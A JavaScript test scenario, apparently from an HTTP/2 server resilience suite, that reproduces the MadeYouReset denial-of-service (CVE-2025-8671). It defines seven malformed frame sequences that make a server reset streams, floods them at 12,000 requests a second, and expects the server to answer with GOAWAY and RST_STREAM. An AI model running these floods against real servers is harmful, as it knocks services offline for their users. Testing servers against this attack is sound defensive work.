import { message } from "../lib/messages.mjs";
import { PLAIN_REQUEST, requestFields } from "../lib/peer.mjs";
import * as wire from "../lib/wire.mjs";

const ONE_BYTE = wire.block(requestFields("Unary", [["content-length", "1"]]));
/** A call that still runs when the fault comes. */
const SLOW = message({ delayMs: 200 });
const ENDED = wire.END_HEADERS | wire.END_STREAM;

/** Each makes the server reset a request that it has begun to serve. */
const FORMS = {
  "window overflow": (id) => [wire.headers(id, PLAIN_REQUEST), wire.windowUpdate(id, 0x7fff_ffff)],
  "zero increment": (id) => [wire.headers(id, PLAIN_REQUEST), wire.windowUpdate(id, 0)],
  "depends on itself": (id) => [
    wire.headers(id, PLAIN_REQUEST),
    wire.frame(wire.PRIORITY, 0, id, Buffer.concat([wire.uint32(id), Buffer.of(15)])),
  ],
  "PRIORITY of a wrong size": (id) => [
    wire.headers(id, PLAIN_REQUEST),
    wire.frame(wire.PRIORITY, 0, id, Buffer.alloc(4)),
  ],
  "DATA after END_STREAM": (id) => [
    wire.headers(id, PLAIN_REQUEST),
    wire.data(id, SLOW, wire.END_STREAM),
    wire.data(id, Buffer.alloc(1)),
  ],
  "DATA beyond content-length": (id) => [wire.headers(id, ONE_BYTE), wire.data(id, Buffer.alloc(100))],
  "malformed trailers": (id) => [
    wire.headers(id, PLAIN_REQUEST),
    wire.headers(id, wire.block([[":path", "/"]]), ENDED),
  ],
};

export const attack = {
  title: "MadeYouReset: seven ways to have requests reset by the server, 12 000 a second each (CVE-2025-8671)",
  // Three forms a round: each needs 2 000 requests before it is stopped.
  run: (t) =>
    t.flood({
      forms: Object.fromEntries(Object.entries(FORMS).filter((_, index) => index % 3 === t.round % 3)),
      perSecond: 12_000,
      reconnectMs: 400,
      next: (peer) => FORMS[peer.form](peer.take()),
    }),
  stopped: FORMS,
  sees: { "GOAWAY ENHANCE_YOUR_CALM": 7, "RST_STREAM PROTOCOL_ERROR": 100, "RST_STREAM FLOW_CONTROL_ERROR": 100 },
  counters: ["calmed", "resetsSent", "streamErrors"],
};
